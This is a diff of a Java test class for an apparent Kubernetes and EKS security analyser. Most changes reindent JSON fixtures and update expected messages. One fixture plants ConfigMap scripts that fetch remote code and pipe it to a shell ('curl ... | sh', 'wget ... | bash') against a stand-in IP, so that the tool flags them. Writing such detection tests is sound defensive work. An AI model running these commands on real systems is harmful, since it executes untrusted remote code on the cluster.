@@ -158,10 +158,11 @@ class ClusterPackageTest {
                         "kubernetes.usage",
                         Map.of("namespace", "shop", "podName", B),
                         FixtureResponse.json("kubernetes:get pods.metrics.k8s.io", """
-                                {"kind": "PodMetrics", "apiVersion": "metrics.k8s.io/v1beta1",
-                                 "metadata": {"name": "b", "namespace": "shop", "creationTimestamp": "2026-11-26T12:13:07Z"},
-                                 "timestamp": "2026-11-26T12:13:00Z", "window": "16.4s",
-                                 "containers": [{"name": "checkout", "usage": {"cpu": "998213345n", "memory": "402132Ki"}}]}""")));
+                            {"kind": "PodMetrics", "apiVersion": "metrics.k8s.io/v1beta1",
+                             "metadata": {"name": "b", "namespace": "shop", "creationTimestamp": "2026-11-26T12:13:07Z"},
+                             "timestamp": "2026-11-26T12:13:00Z", "window": "16.4s",
+                             "containers": [{"name": "checkout", "usage": {"cpu": "998213345n", "memory": "402132Ki"}}]}\
+                            """)));
         assertThat(analysis.timeline())
                 .filteredOn(entry -> entry.subject().equals("b/checkout"))
                 .extracting(TimelineEntry::message)
@@ -185,9 +186,10 @@ class ClusterPackageTest {
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                         FixtureResponse.json("kubernetes:get pods", """
-                                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
-                                 "spec": {"serviceAccountName": "web", "automountServiceAccountToken": %s,
-                                   "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}""".formatted(mounted)));
+                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
+                             "spec": {"serviceAccountName": "web", "automountServiceAccountToken": %s,
+                               "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}\
+                            """.formatted(mounted)));
         if (account.equals("denied")) {
             ShopCluster.denied(
                     fixture,
@@ -197,7 +199,7 @@ class ClusterPackageTest {
         }
         Verdict verdict = reported.analyzed(fixture).verdict();
         assertThat(verdict.answer()).isEqualTo(answer);
-        assertThat(verdict.because().toString().contains("what its service account web may do"))
+        assertThat(verdict.because().toString().contains("the permissions of its service account web are unknown"))
                 .isEqualTo(mounted);
         assertThat(reported.text("report.html").contains("what they may do is not known whole"))
                 .isEqualTo(mounted);
@@ -213,9 +215,10 @@ class ClusterPackageTest {
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                         FixtureResponse.json("kubernetes:get pods", """
-                                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
-                                 "spec": {"serviceAccountName": "web",
-                                   "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}"""))
+                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
+                             "spec": {"serviceAccountName": "web",
+                               "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}\
+                            """))
                 .item(
                         "aws.eks.pod-identity",
                         Map.of("namespace", "shop"),
@@ -223,15 +226,17 @@ class ClusterPackageTest {
                                 "eks:ListPodIdentityAssociations",
                                 "{\"associations\": [{\"associationId\": \"a-1\", \"serviceAccount\": \"web\"}]}"),
                         FixtureResponse.json("eks:DescribePodIdentityAssociation", """
-                                {"association": {"namespace": "shop", "serviceAccount": "web", "roleArn": "%sweb",
-                                 "targetRoleArn": "%sfar"}}""".formatted(role, role)),
+                            {"association": {"namespace": "shop", "serviceAccount": "web", "roleArn": "%sweb",
+                             "targetRoleArn": "%sfar"}}\
+                            """.formatted(role, role)),
                         FixtureResponse.json("eks:DescribePodIdentityAssociation", """
-                                {"association": {"namespace": "shop", "serviceAccount": "other", "roleArn": "%sother"}}""".formatted(role)));
+                            {"association": {"namespace": "shop", "serviceAccount": "other", "roleArn": "%sother"}}\
+                            """.formatted(role)));
         Analysis analysis = reported.analyzed(fixture);
         assertThat(found(analysis, "ESC-030"))
                 .extracting(Finding::because)
                 .containsExactlyInAnyOrder("acts as " + role + "web", "acts as " + role + "far");
-        assertThat(analysis.gaps()).extracting(Gap::why).noneMatch(why -> why.contains("no object of Kubernetes"));
+        assertThat(analysis.gaps()).extracting(Gap::why).noneMatch(why -> why.contains("not a Kubernetes object"));
     }
 
     /** What stands in a file of its node has no account, whatever that of its namespace may do. */
@@ -243,15 +248,17 @@ class ClusterPackageTest {
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                         FixtureResponse.json("kubernetes:get pods", """
-                                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
-                                   "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
-                                 "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}"""))
+                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
+                               "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
+                             "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}\
+                            """))
                 .item(
                         "aws.eks.pod-identity",
                         Map.of("namespace", "shop"),
                         FixtureResponse.json("eks:DescribePodIdentityAssociation", """
-                                {"association": {"namespace": "shop", "serviceAccount": "default",
-                                 "roleArn": "arn:aws:iam::111122223333:role/web"}}"""));
+                            {"association": {"namespace": "shop", "serviceAccount": "default",
+                             "roleArn": "arn:aws:iam::111122223333:role/web"}}\
+                            """));
         assertThat(found(reported.analyzed(fixture), "ESC-030")).isEmpty();
     }
 
@@ -261,14 +268,16 @@ class ClusterPackageTest {
         Map<String, String> web = Map.of("namespace", "shop", "podName", "web", "uid", "web");
         Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                 .item("kubernetes.pod", web, FixtureResponse.json("kubernetes:get pods", """
-                        {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
-                           "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
-                         "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]},
-                         "status": {"containerStatuses": [{"name": "web"}]}}"""))
+                    {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
+                       "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
+                     "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]},
+                     "status": {"containerStatuses": [{"name": "web"}]}}\
+                    """))
                 .item("kubernetes.pod-events", web, FixtureResponse.json("kubernetes:list events", """
-                        {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
-                           "involvedObject": {"kind": "Pod", "name": "web", "uid": "0a1b", "fieldPath": "spec.containers{web}"},
-                           "reason": "BackOff", "message": "Back-off restarting failed container web"}]}""")));
+                    {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
+                       "involvedObject": {"kind": "Pod", "name": "web", "uid": "0a1b", "fieldPath": "spec.containers{web}"},
+                       "reason": "BackOff", "message": "Back-off restarting failed container web"}]}\
+                    """)));
         assertThat(found(analysis, "STA-001")).extracting(Finding::subject).containsExactly("shop/web/web");
     }
 
@@ -276,9 +285,10 @@ class ClusterPackageTest {
     void aPodThatBearsTheIdOfAnotherTakesNoEventsFromIt() throws Exception {
         Map<String, String> web = Map.of("namespace", "shop", "podName", "web", "uid", "a");
         String pod = """
-                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "shop", "uid": "%s",
-                   "annotations": {"%s": "a"}}, "spec": {"containers": [{"name": "web", "image": "x"}]},
-                 "status": {"containerStatuses": [{"name": "web"}]}}""";
+            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "shop", "uid": "%s",
+               "annotations": {"%s": "a"}}, "spec": {"containers": [{"name": "web", "image": "x"}]},
+             "status": {"containerStatuses": [{"name": "web"}]}}\
+            """;
         Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                 .item(
                         "kubernetes.pod",
@@ -287,9 +297,10 @@ class ClusterPackageTest {
                         FixtureResponse.json(
                                 "kubernetes:get pods", pod.formatted("decoy", "d", "kubernetes.io/config.mirror")))
                 .item("kubernetes.pod-events", web, FixtureResponse.json("kubernetes:list events", """
-                        {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
-                           "involvedObject": {"kind": "Pod", "name": "web", "uid": "a", "fieldPath": "spec.containers{web}"},
-                           "reason": "BackOff", "message": "Back-off restarting failed container web"}]}""")));
+                    {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
+                       "involvedObject": {"kind": "Pod", "name": "web", "uid": "a", "fieldPath": "spec.containers{web}"},
+                       "reason": "BackOff", "message": "Back-off restarting failed container web"}]}\
+                    """)));
         assertThat(found(analysis, "STA-001")).extracting(Finding::subject).containsExactly("shop/web/web");
     }
 
@@ -302,29 +313,32 @@ class ClusterPackageTest {
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                         FixtureResponse.json("kubernetes:get pods", """
-                                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
-                                 "spec": {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "start"}}]}}],
-                                   "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29",
-                                     "command": ["sh", "/scripts/run.sh"],
-                                     "volumeMounts": [{"name": "v", "mountPath": "/scripts"}],
-                                     "env": [{"name": "A", "valueFrom": {"configMapKeyRef": {"name": "words", "key": "a"}}}]}]}}"""))
+                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
+                             "spec": {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "start"}}]}}],
+                               "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29",
+                                 "command": ["sh", "/scripts/run.sh"],
+                                 "volumeMounts": [{"name": "v", "mountPath": "/scripts"}],
+                                 "env": [{"name": "A", "valueFrom": {"configMapKeyRef": {"name": "words", "key": "a"}}}]}]}}\
+                            """))
                 .item(
                         "kubernetes.config-maps",
                         Map.of("namespace", "shop"),
                         FixtureResponse.json("kubernetes:list configmaps", """
-                                {"kind": "ConfigMapList", "apiVersion": "v1", "items": [
-                                 {"metadata": {"name": "start", "namespace": "shop"},
-                                  "data": {"run.sh": "curl -s http://203.0.113.9/a | sh"}},
-                                 {"metadata": {"name": "words", "namespace": "shop"}, "data": {"a": "b"}},
-                                 {"metadata": {"name": "idle", "namespace": "shop"},
-                                  "data": {"run.sh": "wget -qO- http://203.0.113.9/b | bash"}}]}"""))
+                            {"kind": "ConfigMapList", "apiVersion": "v1", "items": [
+                             {"metadata": {"name": "start", "namespace": "shop"},
+                              "data": {"run.sh": "curl -s http://203.0.113.9/a | sh"}},
+                             {"metadata": {"name": "words", "namespace": "shop"}, "data": {"a": "b"}},
+                             {"metadata": {"name": "idle", "namespace": "shop"},
+                              "data": {"run.sh": "wget -qO- http://203.0.113.9/b | bash"}}]}\
+                            """))
                 .item(
                         "kubernetes.webhooks",
                         Map.of("cluster", "prod"),
                         FixtureResponse.json("kubernetes:list mutatingwebhookconfigurations", """
-                                {"kind": "MutatingWebhookConfigurationList", "apiVersion": "admissionregistration.k8s.io/v1",
-                                 "items": [{"metadata": {"name": "m"}, "webhooks": [{"name": "m.example",
-                                   "clientConfig": {"url": "https://203.0.113.9/mutate"}, "rules": []}]}]}"""));
+                            {"kind": "MutatingWebhookConfigurationList", "apiVersion": "admissionregistration.k8s.io/v1",
+                             "items": [{"metadata": {"name": "m"}, "webhooks": [{"name": "m.example",
+                               "clientConfig": {"url": "https://203.0.113.9/mutate"}, "rules": []}]}]}\
+                            """));
         Analysis analysis = reported.analyzed(fixture);
         assertThat(found(analysis, "CMD-001")).singleElement().satisfies(finding -> {
             assertThat(finding.subject()).isEqualTo("ConfigMap/shop/start");
@@ -358,10 +372,11 @@ class ClusterPackageTest {
     @Test
     void anImpostorIsNotExcused() throws Exception {
         String pod = """
-                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "kube-system", "uid": "%s",
-                  "ownerReferences": [{"kind": "DaemonSet", "name": "kube-proxy", "uid": "ds"}]},
-                 "spec": {"hostNetwork": true, "containers": [{"name": "kube-proxy", "image": "%s",
-                   "securityContext": {"privileged": true}}]}, "status": {"phase": "Running"}}""";
+            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "kube-system", "uid": "%s",
+              "ownerReferences": [{"kind": "DaemonSet", "name": "kube-proxy", "uid": "ds"}]},
+             "spec": {"hostNetwork": true, "containers": [{"name": "kube-proxy", "image": "%s",
+               "securityContext": {"privileged": true}}]}, "status": {"phase": "Running"}}\
+            """;
         Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                 .item(
                         "kubernetes.pod",
